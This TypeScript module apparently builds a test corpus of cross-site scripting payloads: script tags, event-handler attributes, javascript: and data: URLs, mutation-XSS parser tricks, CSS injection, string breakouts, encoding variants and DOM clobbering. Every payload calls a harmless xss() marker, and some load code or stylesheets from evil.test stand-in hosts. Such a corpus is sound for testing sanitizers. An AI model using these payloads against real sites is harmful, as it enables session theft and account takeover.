/** A text somebody might store to get a script of theirs into a page. If it runs it calls `xss()`. */
export interface HostileText {
  /** The way it tries to get in. */
  readonly family: string;
  readonly text: string;
}

/**
 * Texts that attack pages, made by combining the known ways in: what opens a script, with what stands around it and
 * how it is spelled. None holds a NUL, so that a database can store every one.
 */
export function hostileTexts(): readonly HostileText[] {
  const texts = [
    ...of("script element", scripts()),
    ...of("event handler", handlers()),
    ...of("address", addresses()),
    ...of("parser disagreement", disagreements()),
    ...of("style", styles()),
    ...of("end of a string or element", endings()),
    ...of("spelling", spellings()),
    ...of("names that hide ours", clobbering()),
  ];
  const seen = new Set<string>();
  return texts.filter(({ text }) => !seen.has(text) && seen.add(text));
}

const of = (family: string, texts: readonly string[]) => texts.map((text) => ({ family, text }));

const combine = (...parts: readonly (readonly string[])[]): readonly string[] =>
  parts.reduce<readonly string[]>(
    (done, next) => done.flatMap((text) => next.map((part) => text + part)),
    [""],
  );

/** What ends the place a text may have landed in. */
const BREAKOUTS = [
  "",
  '">',
  "'>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "</p></div>",
  "<!--",
  "<![CDATA[",
];

const SCRIPTS = [
  "<script>xss()</script>",
  "<ScRiPt>xss()</sCrIpT >",
  "<script\n>xss()</script\t>",
  "<script/x>xss()</script>",
  "<script type=module>xss()</script>",
  '<script src="data:text/javascript,xss()"></script>',
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<svg><script>xss()</script></svg>",
  "<svg><script href=data:,xss() />",
  "<script>xss()",
];
const scripts = () => combine(BREAKOUTS, SCRIPTS);

/** Elements with the handler that they run by themselves or at the first touch. */
const HANDLERS: readonly (readonly [element: string, attributes: string, handler: string])[] = [
  ["img", "src=x", "onerror"],
  ["img", "src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "onload"],
  ["image", "src=x", "onerror"],
  ["svg", "", "onload"],
  ["svg", "width=9", "onbegin"],
  ["body", "", "onload"],
  ["body", "", "onpageshow"],
  ["video", "src=x", "onerror"],
  ["audio", "src=x", "onerror"],
  ["video", "autoplay", "onloadstart"],
  ["input", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["button", "autofocus", "onfocus"],
  ["a", "tabindex=1 autofocus", "onfocus"],
  ["details", "open", "ontoggle"],
  ["marquee", "", "onstart"],
  ["iframe", "src=about:blank", "onload"],
  ["object", "data=x", "onerror"],
  ["embed", "src=x", "onload"],
  ["style", "", "onload"],
  ["link", "rel=stylesheet href=data:text/css,", "onload"],
  ["script", "src=x", "onerror"],
  ["form", "", "onsubmit"],
  ["p", "", "onmouseover"],
  ["li", "", "onclick"],
  ["blockquote", "", "onpointerenter"],
  ["a", "href=https://example.test/", "onclick"],
  ["h3", "contenteditable", "oninput"],
  ["math", "", "onclick"],
  ["custom-element", "", "onfocus"],
  ["dialog", "open", "onclose"],
];
const GAPS = [" ", "/", "\t", "\n", "\f", " / "];
const CALLS = ["=xss()", '="xss()"', "='xss()'", "=`xss()`", " = x&#115;s(&rpar;"];

const handlers = (): readonly string[] => [
  ...HANDLERS.flatMap(([element, attributes, handler], index) =>
    GAPS.flatMap((gap, gapIndex) => {
      // Every handler meets every gap, and every spelling of the call, without multiplying them all.
      const call = CALLS[(index + gapIndex) % CALLS.length] ?? "";
      return [
        `<${element}${gap}${attributes}${gap}${handler}${call}>`,
        `<${element.toUpperCase()}${gap}${handler.toUpperCase()}${call}${gap}${attributes}>`,
      ];
    }),
  ),
  ...HANDLERS.map(([element, attributes, handler]) => `"><${element} ${attributes} ${handler}=xss() x="`),
  ...HANDLERS.map(([element, attributes, handler]) => `<${element} ${attributes} ${handler}=xss()`),
  ...HANDLERS.map(([, , handler]) => `" autofocus tabindex=0 ${handler}="xss()`),
];

/** Spellings of an address that browsers might run, or that leads somewhere else than it says. */
const ADDRESSES = [
  "javascript:xss()",
  "JaVaScRiPt:xss()",
  "  javascript:xss()",
  "java\tscript:xss()",
  "java\nscript:xss()",
  "javascript\r\n:xss()",
  "\u0001javascript:xss()",
  "javascript&colon;xss()",
  "java&Tab;script:xss()",
  "java&NewLine;script:xss()",
  "&#106;avascript:xss()",
  "&#x6A&#x61vascript:xss()",
  "&#0000106avascript:xss()",
  "javascript://example.test/%0Axss()",
  "javascript:/*--></title></style></script>*/xss()",
  "data:text/html,<script>xss()</script>",
  "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
  "vbscript:xss()",
  "blob:https://example.test/x",
  "//evil.test/x.js",
  "\\\\evil.test/x.js",
  "https:evil.test",
  "https://example.test@evil.test/",
];
/** What takes an address. */
const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_top>x</a>`,
  (address) => `<a\u000Chref=${address}>x</a>`,
  (address) => `<A HREF="${address}">x</A>`,
  (address) => `<area href="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<base href="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}"/></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe srcdoc="<script>parent.xss()</script>" src="${address}"></iframe>`,
];
const addresses = () => CARRIERS.flatMap((carrier) => ADDRESSES.map(carrier));

/** Elements inside which HTML is read by other rules, nested so that one parser sees text where another sees an element. */
const OUTER = [
  "svg",
  "math",
  "svg><desc",
  "svg><foreignObject",
  "svg><title",
  "math><mtext",
  'math><annotation-xml encoding="text/html"',
  "math><mi><mglyph",
  "table",
  "table><caption",
  "select",
  "template",
  "form><math><mtext></form><form",
  "p><svg",
];
const RAW = [
  "style",
  "script",
  "xmp",
  "title",
  "textarea",
  "noscript",
  "iframe",
  "noembed",
  "noframes",
  "plaintext",
];

const disagreements = (): readonly string[] => [
  ...OUTER.flatMap((outer) =>
    RAW.map((raw) => `<${outer}><${raw}><a title="</${raw}><img src=x onerror=xss()>">x</a></${raw}>`),
  ),
  ...OUTER.map((outer) => `<${outer}><!--</${outer.split(/[>< ]/)[0]}><img src=x onerror=xss()>-->`),
  ...RAW.map((raw) => `<${raw}><!--</${raw}><img src=x onerror=xss()>--></${raw}>`),
  ...RAW.map((raw) => `<p id="</${raw}><img src=x onerror=xss()>"><${raw}></p>`),
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
  '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
  "<svg><![CDATA[><image xlink:href=']]><img src=x onerror=xss()//'>",
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=xss() src>">',
  "<table><td background=javascript:xss()><tr><td></table>",
  "<!--><img src=x onerror=xss()>-->",
  "<!---><img src=x onerror=xss()>-->",
  "<!--x--!><img src=x onerror=xss()>-->",
  "<?xml <img src=x onerror=xss()>?>",
  "<!DOCTYPE <img src=x onerror=xss()>>",
  "</<img src=x onerror=xss()>>",
  "<<img src=x onerror=xss()>>",
  "<a <img src=x onerror=xss()>",
  "<p <p><img src=x onerror=xss()>",
  '<a href="https://example.test/"<img src=x onerror=xss()>">x</a>',
  `${"<b>".repeat(600)}<img src=x onerror=xss()>`,
  `${"<p><a>".repeat(200)}<img src=x onerror=xss()>`,
];

const STYLES = [
  "background:url(javascript:xss())",
  "background:url(data:text/html,xss())",
  "width:expression(xss())",
  "-moz-binding:url(//evil.test/x.xml#x)",
  "behavior:url(x.htc)",
  "position:fixed;inset:0;z-index:9999",
  "animation-name:x",
  "background:url(https://evil.test/seen)",
];
const styles = (): readonly string[] => [
  ...STYLES.flatMap((style) => [
    `<p style="${style}">x</p>`,
    `<a href="https://example.test/" style='${style}'>x</a>`,
    `<style>*{${style}}</style>`,
  ]),
  "<style>@import'//evil.test/x.css';</style>",
  "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=xss()>x</p>",
  "<link rel=stylesheet href=//evil.test/x.css>",
];

/** For places that are no HTML: JSON in a script, strings in code, templates, attributes, translated sentences. */
const endings = (): readonly string[] => [
  ...[
    "</script>",
    "</SCRIPT >",
    "</script\n>",
    "</script/x>",
    "<!--<script>",
    "<!--",
    "]]>",
    "\u2028",
    "\u2029",
  ].flatMap((end) => [`${end}<script>xss()</script>`, `${end}<img src=x onerror=xss()>`, `";${end}xss()//`]),
  ...[
    '"',
    "'",
    "`",
    "\\",
    '\\"',
    "\\'",
    "${xss()}",
    "{{xss()}}",
    "#{xss()}",
    "<%=xss()%>",
    "{{constructor.constructor('xss()')()}}",
  ].flatMap((end) => [`${end}-xss()-${end}`, `${end};xss();//`, `${end}+xss()+${end}`]),
  '","@type":"x","</script><script>xss()</script>":"',
  "\\u003c/script\\u003e\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "{name, select, other {<script>xss()</script>}}",
  "<0><script>xss()</script></0>",
  '__proto__"><img src=x onerror=xss()>',
  '=HYPERLINK("javascript:xss()")',
];

const spellings = (): readonly string[] => [
  "+ADw-script+AD4-xss()+ADw-/script+AD4-",
  "\uFF1Cscript\uFF1Exss()\uFF1C/script\uFF1E",
  "\u2039img src=x onerror=xss()\u203A",
  "%3Cscript%3Exss()%3C/script%3E",
  "%253Cscript%253Exss()%253C/script%253E",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&amp;lt;img src=x onerror=xss()&amp;gt;",
  "&#60;img src=x onerror=xss()&#62;",
  "&#x3C;img src=x onerror=xss()&#x3E;",
  "&LT;img src=x onerror=xss()&GT;",
  "<\u0130mg src=x onerror=xss()>",
  "<\u017Fcript>xss()</\u017Fcript>",
  "\u202E<script>xss()</script>",
  "\uFEFF<script>xss()</script>",
  "<img src=x on\u00ADerror=xss()>",
  "<img\u00A0src=x\u00A0onerror=xss()>",
  "<\u0001script>xss()</script>",
  "\u001B[0m<script>xss()</script>",
];

/** Elements whose id or name would stand before the properties our scripts read. */
const clobbering = (): readonly string[] =>
  [
    "__reactRouterContext",
    "body",
    "head",
    "cookie",
    "documentElement",
    "location",
    "attributes",
    "parentNode",
  ].flatMap((name) => [
    `<form id=${name}><input name=${name}></form>`,
    `<img name=${name}>`,
    `<a id="${name}" href="https://evil.test/">x</a>`,
  ]);
